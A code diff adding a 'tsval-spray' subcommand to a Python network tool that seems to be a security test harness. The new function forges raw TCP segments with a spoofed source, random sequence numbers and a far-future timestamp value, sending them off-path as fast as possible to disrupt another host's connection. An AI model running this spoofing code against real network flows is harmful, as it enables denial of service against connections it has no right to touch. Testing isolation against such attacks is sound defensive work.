@@ -347,6 +347,64 @@ def repair_denied(args) -> dict:
         s.close()
 
 
+def _csum(data: bytes) -> int:
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def tsval_spray(args) -> dict:
+    """Off-path, from a peer host (raw socket, nothing else): segments of the
+    flow src -> dst, each with a random seq and ack and the timestamp option
+    TSval = --tsval (far in the peer's future), as fast as we can for --seconds."""
+    import random
+
+    (saddr, sport), (daddr, dport) = endpoint(args.src), endpoint(args.dst)
+    src, dst = socket.inet_aton(saddr), socket.inet_aton(daddr)
+    rng, sent = random.Random(), 0
+    deadline = time.monotonic() + args.seconds
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+        while time.monotonic() < deadline:
+            opts = struct.pack("!BBBBII", 1, 1, 8, 10, args.tsval, rng.getrandbits(32))
+            tcp = (
+                struct.pack(
+                    "!HHIIBBHHH",
+                    sport,
+                    dport,
+                    rng.getrandbits(32),
+                    rng.getrandbits(32),
+                    8 << 4,
+                    0x10,
+                    512,
+                    0,
+                    0,
+                )
+                + opts
+            )
+            pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
+            tcp = tcp[:16] + struct.pack("!H", _csum(pseudo + tcp)) + tcp[18:]
+            ip = struct.pack(
+                "!BBHHHBBH4s4s",
+                0x45,
+                0,
+                20 + len(tcp),
+                0,
+                0x4000,
+                64,
+                socket.IPPROTO_TCP,
+                0,
+                src,
+                dst,
+            )
+            ip = ip[:10] + struct.pack("!H", _csum(ip)) + ip[12:]
+            raw.sendto(ip + tcp, (daddr, 0))
+            sent += 1
+    return {"sent": sent, "uid": os.getuid()}
+
+
 def main() -> int:
     p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     p.add_argument("--socket", required=True)
@@ -377,6 +435,11 @@ def main() -> int:
     x.add_argument("--peer", required=True)
     x = sub.add_parser("repair")
     x.add_argument("--server", required=True)
+    x = sub.add_parser("tsval-spray")
+    x.add_argument("--src", required=True, help="the flow, as the spoofed segments claim it")
+    x.add_argument("--dst", required=True)
+    x.add_argument("--tsval", type=int, required=True)
+    x.add_argument("--seconds", type=float, default=1.0)
     args = p.parse_args()
     fn = {
         "forge": forge,
@@ -390,6 +453,7 @@ def main() -> int:
         "race": race,
         "tuple": tuple_free,
         "repair": repair_denied,
+        "tsval-spray": tsval_spray,
     }[args.cmd]
     print(json.dumps(fn(args)), flush=True)
     return 0
